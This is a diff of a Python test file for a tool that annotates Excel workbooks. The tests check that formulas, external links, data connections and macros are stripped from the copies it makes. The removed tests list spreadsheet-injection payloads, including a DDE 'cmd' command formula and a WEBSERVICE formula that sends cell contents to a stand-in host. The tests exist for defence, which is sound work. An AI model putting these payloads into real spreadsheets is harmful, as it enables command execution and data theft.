@@ -5,13 +5,8 @@ import zipfile
 from dataclasses import replace
 
 import openpyxl
-import pytest
 from openpyxl.chart import BarChart
-from openpyxl.comments import Comment
-from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
-from openpyxl.worksheet.datavalidation import DataValidation
-from openpyxl.worksheet.hyperlink import Hyperlink
-from openpyxl.worksheet.table import Table as WorksheetTable
+from openpyxl.formatting.rule import FormulaRule
 
 from prioritisation.imports.files.annotated import annotated_file
 from prioritisation.imports.files.marks import CellMark, MarkWords, marks_as_sent, sent_marks
@@ -33,19 +28,21 @@ MARKS = (
 )
 
 
-def workbook(macros=False, formulas=()):
+REMOTE = "http://remote.example/"
+
+
+def workbook(formulas=()):
     book = openpyxl.Workbook()
     sheet = book.active
     sheet.title = "Feuille d'1"
-    for row in (("Levier", "Coût", "Accord"), ("Un", "quatre", "bon"), ("Deux", 12, "moyen")):
+    for row in (("Levier", "Coût", "Accord"), ("Un", "quatre", "bon"), ("Deux", 12, "moyen", "x")):
         sheet.append(row)
-    sheet["B2"].comment = Comment("la mienne", "moi")
     sheet.merge_cells("C1:D2")
     for k, formula in enumerate(formulas):
         sheet[f"F{k + 1}"] = formula
     out = io.BytesIO()
     book.save(out)
-    return with_macros(out.getvalue()) if macros else out.getvalue()
+    return out.getvalue()
 
 
 def with_macros(content):
@@ -80,12 +77,12 @@ def test_marks_arrive_as_they_were_sent():
     assert marks == (MARKS[0], replace(MARKS[1], found="x"), *MARKS[2:])
 
 
-def test_each_cell_is_coloured_and_commented_and_the_rest_is_as_it_was():
+def test_each_cell_is_coloured_and_commented_and_the_rest_says_what_it_said():
     book = opened(annotated(workbook()))
     sheet = book["Feuille d'1"]
     assert book.sheetnames == ["À corriger", "Feuille d'1"]
     assert sheet["B2"].fill.start_color.rgb == "FFFFD9A0"
-    assert sheet["B2"].comment.text == "la mienne\n\nun nombre\n=1+1"
+    assert sheet["B2"].comment.text == "un nombre\n=1+1"
     # D2 is under merged cells, of which the first one shows.
     assert sheet["C1"].fill.start_color.rgb == "FFCFE3F7"
     assert sheet["C1"].comment.text.startswith("@question")
@@ -114,119 +111,28 @@ def test_nothing_that_is_quoted_is_a_formula():
     assert all(cell.quotePrefix for cell in cells)
 
 
-@pytest.mark.parametrize(
-    "formula",
-    [
-        '=WEBSERVICE("http://x/"&B2)',
-        '=HYPERLINK("http://x","y")',
-        "=cmd|' /C calc'!A0",
-        "='[other.xlsx]S'!A1",
-        '=IMPORTXML("http://x","//y")',
-        '=IMAGE("http://x")',
-    ],
-)
-def test_what_would_reach_elsewhere_is_a_text_that_shows_it(formula):
-    sheet = opened(annotated(workbook(formulas=[formula, "=SUM(B2:B3)"])))["Feuille d'1"]
-    assert (sheet["F1"].data_type, sheet["F1"].value) == ("s", formula)
-    assert (sheet["F2"].data_type, sheet["F2"].value) == ("f", "=SUM(B2:B3)")
+def whole_text(content):
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        names = archive.namelist()
+        return "\n".join(archive.read(name).decode(errors="replace") for name in names)
 
 
-def test_a_stray_last_cell_is_no_reason_for_no_copy():
-    book = openpyxl.load_workbook(io.BytesIO(workbook()))
-    book.active["XFD1048576"] = "égarée"
-    out = io.BytesIO()
-    book.save(out)
-    made = run_limited("annotate", "f.xlsx", out.getvalue(), sent_marks(MARKS, WORDS))
-    assert openpyxl.load_workbook(io.BytesIO(made)).worksheets[1]["XFD1048576"].value == "égarée"
-
-
-REMOTE = "http://remote.example/"
-_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-_OF_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
-FETCHING_PARTS = {
-    "xl/connections.xml": f'<connections xmlns="{_MAIN}"><connection id="1" name="c" type="5">'
-    f'<dbPr connection="Data Source={REMOTE}"/></connection></connections>',
-    "xl/queryTables/queryTable1.xml": f'<queryTable xmlns="{_MAIN}" name="q" connectionId="1"/>',
-    "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_MAIN}"><externalBook '
-    f'xmlns:r="{_RELS}" r:id="rId1"/></externalLink>',
-    "xl/embeddings/oleObject1.bin": REMOTE,
-    "xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="{_OF_PACKAGE}">'
-    f'<Relationship Id="rId1" Type="{_RELS}/externalLinkPath" Target="{REMOTE}x.xlsx" '
-    'TargetMode="External"/></Relationships>',
-}
-"""What a workbook has beside its sheets when it fetches."""
-
-
-def reaching_workbook():
-    """Each kind of thing that leads elsewhere, and the same that stays inside."""
-    book = openpyxl.load_workbook(io.BytesIO(workbook()))
+def test_nothing_of_a_workbook_but_its_values_comes_along():
+    """No formula, link, condition, chart or macro, whatever it would reach."""
+    book = openpyxl.load_workbook(io.BytesIO(workbook(formulas=[f"='{REMOTE}[o.xlsx]S'!A1"])))
     sheet = book.active
     sheet["A2"].hyperlink = f"{REMOTE}a"
-    sheet["A3"].hyperlink = "file://remote.example/share/b.xlsx"
-    sheet["B3"].hyperlink = "mailto:somebody@remote.example"
-    sheet["C3"].hyperlink = Hyperlink(ref="C3", location=f"{REMOTE}c")
-    sheet["A1"].hyperlink = Hyperlink(ref="A1", location="'Feuille d''1'!B2")
-    conditions = sheet.conditional_formatting
-    conditions.add("A1:A9", FormulaRule([f"'{REMOTE}[x.xlsx]S'!$A$1>2"]))
-    conditions.add("B1:B9", FormulaRule(["$B1>7"]))
-    fetched = f'WEBSERVICE("{REMOTE}d")'
-    ends = {"end_type": "max", "end_color": "FF00FF00"}
-    conditions.add("D1:D9", ColorScaleRule("formula", fetched, "FFFF0000", **ends))
-    for place, formula in (("A5", f"'{REMOTE}[x.xlsx]S'!$A$1:$A$3"), ("A6", "$A$1:$A$3")):
-        sheet.add_data_validation(DataValidation("list", formula, sqref=place))
-    sheet.add_table(WorksheetTable(displayName="q", ref="A1:B3", tableType="queryTable"))
+    sheet.conditional_formatting.add("A1:A9", FormulaRule([f"'{REMOTE}[x.xlsx]S'!$A$1>2"]))
     book.create_chartsheet("Graphique").add_chart(BarChart())
     out = io.BytesIO()
     book.save(out)
-    with zipfile.ZipFile(out, "a") as archive:
-        for name, part in FETCHING_PARTS.items():
-            archive.writestr(name, part)
-    return out.getvalue()
-
-
-def with_chart_sheets(left_out):
-    """A workbook with a sheet of charts on each side, its parts of that name left out."""
-    book = openpyxl.load_workbook(io.BytesIO(workbook()))
-    book.create_chartsheet("Avant", 0).add_chart(BarChart())
-    book.create_chartsheet("Après").add_chart(BarChart())
-    whole, out = io.BytesIO(), io.BytesIO()
-    book.save(whole)
-    with zipfile.ZipFile(whole) as before, zipfile.ZipFile(out, "w") as after:
-        for name in before.namelist():
-            if not (left_out and name.startswith(left_out)):
-                after.writestr(name, before.read(name))
-    return out.getvalue()
-
-
-@pytest.mark.parametrize("left_out", ["", "xl/chartsheets/_rels/", "xl/drawings/", "xl/charts/"])
-def test_sheets_of_charts_with_or_without_a_chart_do_not_come_along(left_out):
-    copy = opened(annotated(with_chart_sheets(left_out)))
+    content = annotated(with_macros(out.getvalue()))
+    copy = opened(content)
     assert copy.sheetnames == ["À corriger", "Feuille d'1"]
-    sheet = copy["Feuille d'1"]
-    assert sheet["B2"].comment.text.startswith("la mienne")
-
-
-def whole_text(content):
-    with zipfile.ZipFile(io.BytesIO(content)) as archive:
-        return "\n".join(
-            archive.read(name).decode(errors="replace") for name in archive.namelist()
-        )
-
-
-def test_links_conditions_and_connections_that_lead_elsewhere_do_not_come_along():
-    before = reaching_workbook()
-    assert whole_text(before).count("remote.example") == 10
-    content = annotated(before)
-    assert "remote.example" not in whole_text(content)
-    assert 'TargetMode="External"' not in whole_text(content)
-    assert "queryTable" not in whole_text(content)
-    assert opened(content).sheetnames == ["À corriger", "Feuille d'1"]
-    sheet = opened(content)["Feuille d'1"]
-    assert sheet["A2"].value == "Un"
-    assert sheet["A1"].hyperlink.location == "'Feuille d''1'!B2"
-    assert [str(one.sqref) for one in sheet.conditional_formatting] == ["B1:B9"]
-    assert [one.formula1 for one in sheet.data_validations.dataValidation] == ["$A$1:$A$3"]
+    assert "f" not in {cell.data_type for page in copy for row in page for cell in row}
+    assert copy["Feuille d'1"]["F1"].value.startswith("=")
+    for gone in ('TargetMode="External"', f'"{REMOTE}a"', "conditionalFormatting", "vba"):
+        assert gone not in whole_text(content)
 
 
 def test_its_list_is_one_page_wide_on_paper():
@@ -235,13 +141,6 @@ def test_its_list_is_one_page_wide_on_paper():
     assert (page.page_setup.fitToWidth, page.page_setup.fitToHeight) == (1, 0)
     assert page.page_setup.orientation == "landscape"
     assert page.print_title_rows == "$2:$2"
-
-
-def test_macros_do_not_come_along():
-    content = annotated(workbook(macros=True))
-    with zipfile.ZipFile(io.BytesIO(content)) as archive:
-        assert not [name for name in archive.namelist() if "vba" in name.lower()]
-        assert b"macroEnabled" not in archive.read("[Content_Types].xml")
 
 
 def test_it_is_made_where_nothing_may_be_written():
